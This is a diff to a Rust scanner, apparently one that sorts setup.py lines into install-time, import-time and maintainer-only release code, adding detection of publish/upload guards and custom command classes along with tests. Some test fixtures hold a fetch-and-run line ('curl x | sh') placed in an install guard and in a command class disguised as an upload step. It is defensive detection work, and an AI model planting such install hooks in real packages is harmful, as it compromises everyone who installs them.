@@ -17,6 +17,19 @@ pub enum LineKind {
     ModuleLevel,
     /// Code inside a function body, or a definition header.
     Other,
+    /// Code of a maintainer's own setup.py command (under `if sys.argv[-1] == 'publish':`,
+    /// or in a custom command class such as `UploadCommand`): it runs when a maintainer
+    /// types `python setup.py publish`, never when pip builds or installs the package,
+    /// nor on import.
+    MaintainerCommand,
+}
+
+impl LineKind {
+    /// Whether the line is code that runs when the package is built, installed or
+    /// imported (comments, docstrings and release-command blocks do not).
+    pub fn runs(self) -> bool {
+        !matches!(self, LineKind::NotCode | LineKind::MaintainerCommand)
+    }
 }
 
 /// What one line is, and the function it belongs to.
@@ -48,6 +61,8 @@ pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
     // Indent of an open `if __name__ == '__main__':` block: its body runs when the file
     // is a script, never when it is imported.
     let mut main_guard: Option<usize> = None;
+    // Indent of an open release-command block (`if sys.argv[-1] == 'publish':`).
+    let mut release_guard: Option<usize> = None;
     for raw in data.split(|&b| b == b'\n') {
         let line_no = out.len() as u32;
         let function = stack
@@ -81,7 +96,9 @@ pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
         // that one unbalanced bracket cannot swallow the rest of the file.
         let top_level_definition = raw.starts_with(b"def ") || raw.starts_with(b"class ");
         if depth > 0 && !top_level_definition {
-            let kind = if in_function || main_guard.is_some() {
+            let kind = if release_guard.is_some() {
+                LineKind::MaintainerCommand
+            } else if in_function || main_guard.is_some() {
                 LineKind::Other
             } else {
                 LineKind::ModuleLevel
@@ -101,6 +118,9 @@ pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
         if main_guard.is_some_and(|guard| indent <= guard) {
             main_guard = None;
         }
+        if release_guard.is_some_and(|guard| indent <= guard) {
+            release_guard = None;
+        }
         let function = stack
             .iter()
             .rev()
@@ -110,6 +130,8 @@ pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
         let is_def = text.starts_with(b"def ") || text.starts_with(b"async def ");
         let kind = if starts_with_string(text) {
             LineKind::NotCode
+        } else if release_guard.is_some() {
+            LineKind::MaintainerCommand
         } else if in_function
             || is_def
             || text.starts_with(b"class ")
@@ -127,6 +149,11 @@ pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
             stack.push((indent, is_def, line_no));
             if main_guard.is_none() && is_main_guard(text) {
                 main_guard = Some(indent);
+            }
+            if release_guard.is_none()
+                && (is_release_guard(text) || is_release_command_class(text, data))
+            {
+                release_guard = Some(indent);
             }
         }
         depth = brackets.max(0);
@@ -156,6 +183,89 @@ fn is_main_guard(text: &[u8]) -> bool {
                     .strip_prefix(b"(")
                     .is_some_and(|c| c.starts_with(form))
         })
+}
+
+/// Words of a maintainer's own commands (`python setup.py publish`) that pip never passes
+/// to setup.py: a block guarded by one of them runs only on the maintainer's machine.
+const RELEASE_WORDS: &[&[u8]] = &[b"publish", b"release", b"upload", b"register", b"tag"];
+
+/// `if sys.argv[-1] == 'publish':`, `if 'publish' in sys.argv:` and the like, for the
+/// words of [`RELEASE_WORDS`] only: a guard on `install` or `bdist_wheel` runs on install.
+fn is_release_guard(text: &[u8]) -> bool {
+    let compact: Vec<u8> = text
+        .iter()
+        .copied()
+        .filter(|b| !b.is_ascii_whitespace())
+        .collect();
+    if !compact.starts_with(b"if") || memchr::memmem::find(&compact, b"sys.argv").is_none() {
+        return false;
+    }
+    let quoted = |word: &[u8], q: u8| {
+        let mut needle = vec![q];
+        needle.extend_from_slice(word);
+        needle.push(q);
+        memchr::memmem::find(&compact, &needle).is_some()
+    };
+    let mentions = |word: &[u8]| quoted(word, b'\'') || quoted(word, b'"');
+    let literals = compact.iter().filter(|&&b| b == b'\'' || b == b'"').count();
+    // One quoted word, a release word: `sys.argv[-1] in ('publish', 'install')` is not.
+    literals == 2 && RELEASE_WORDS.iter().any(|w| mentions(w))
+}
+
+/// The steps pip runs when it builds or installs an sdist: a command class registered
+/// under one of these names runs on install, whatever it is called.
+const PIP_COMMANDS: &str = "install|build|build_py|build_ext|build_clib|build_scripts|egg_info|dist_info|bdist_wheel|bdist_egg|sdist|develop|install_lib|install_scripts|install_data|install_egg_info|editable_wheel";
+
+/// A custom setuptools command that pip never runs: `class UploadCommand(Command):` of
+/// the setup.py template, registered as `cmdclass={'upload': UploadCommand}`. Its body
+/// runs on `python setup.py upload` only. A command registered under one of pip's own
+/// steps (`'install': UploadCommand`) runs on every install, whatever its name; one
+/// whose registration cannot be seen counts only when its name says it publishes.
+fn is_release_command_class(text: &[u8], data: &[u8]) -> bool {
+    let Some(rest) = text.strip_prefix(b"class ") else {
+        return false;
+    };
+    let Some(open) = rest.iter().position(|&b| b == b'(') else {
+        return false;
+    };
+    let name = rest[..open].trim_ascii();
+    let base: Vec<u8> = rest[open + 1..]
+        .iter()
+        .copied()
+        .take_while(|&b| b != b')')
+        .filter(|b| !b.is_ascii_whitespace())
+        .collect();
+    let command_base = [
+        b"Command".as_slice(),
+        b"setuptools.Command",
+        b"distutils.cmd.Command",
+        b"distutils.core.Command",
+    ]
+    .contains(&base.as_slice());
+    let plain_name =
+        !name.is_empty() && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
+    if !command_base || !plain_name {
+        return false;
+    }
+    let name = String::from_utf8_lossy(name);
+    let Ok(registration) = regex::bytes::Regex::new(&format!(
+        r#"['"](\w+)['"]\s*:\s*{name}\b|\b(\w+)\s*=\s*{name}\s*[,)]"#
+    )) else {
+        return false;
+    };
+    let keys: Vec<String> = registration
+        .captures_iter(data)
+        .filter_map(|c| c.get(1).or(c.get(2)))
+        .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
+        .collect();
+    if keys.iter().any(|k| PIP_COMMANDS.split('|').any(|p| p == k)) {
+        return false;
+    }
+    let lower = name.to_ascii_lowercase();
+    !keys.is_empty()
+        || RELEASE_WORDS
+            .iter()
+            .any(|w| memchr::memmem::find(lower.as_bytes(), w).is_some())
 }
 
 /// For each line (0-based), whether it is code that runs at import time.
@@ -261,6 +371,45 @@ os.system('d')\n";
             true,
         ];
         assert_eq!(&lines[..expect.len()], &expect);
+    }
+
+    #[test]
+    fn a_release_command_block_runs_neither_on_install_nor_on_import() {
+        let src = b"import os, sys\n\
+if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    os.system(\n        'git tag')\n    sys.exit()\n\
+if 'install' in sys.argv:\n    os.system('curl x | sh')\n\
+if sys.argv[-1] in ('publish', 'install'):\n    os.system('y')\n\
+os.system('z')\n";
+        use LineKind::*;
+        assert_eq!(
+            classify_lines(src),
+            [
+                Other,
+                ModuleLevel,
+                MaintainerCommand,
+                MaintainerCommand,
+                MaintainerCommand,
+                MaintainerCommand,
+                ModuleLevel,
+                ModuleLevel,
+                ModuleLevel,
+                ModuleLevel,
+                ModuleLevel,
+                NotCode
+            ]
+        );
+        assert!(is_release_guard(b"if \"publish\" in sys.argv:"));
+        let template = b"class UploadCommand(Command):\n    def run(self):\n        os.system('twine upload dist/*')\nsetup(cmdclass={'upload': UploadCommand})\n";
+        assert_eq!(classify_lines(template)[2], LineKind::MaintainerCommand);
+        // Registered as pip's install step, the same class runs on every install.
+        let disguised = b"class UploadCommand(Command):\n    def run(self):\n        os.system('curl x | sh')\nsetup(cmdclass={'install': UploadCommand})\n";
+        assert_eq!(classify_lines(disguised)[2], LineKind::Other);
+        // Any custom command pip never runs: `python setup.py pypi`, `setup.py test`.
+        let custom = b"class PyPiCommand(Command):\n    def run(self):\n        os.system('twine upload dist/*')\nsetup(cmdclass={\n    'pypi': PyPiCommand,\n})\n";
+        assert_eq!(classify_lines(custom)[2], LineKind::MaintainerCommand);
+        let keyword = b"class Build(Command):\n    def run(self):\n        os.system('x')\nsetup(cmdclass=dict(build_py=Build))\n";
+        assert_eq!(classify_lines(keyword)[2], LineKind::Other);
+        assert!(!is_release_guard(b"if sys.argv[1] == 'bdist_wheel':"));
     }
 
     #[test]
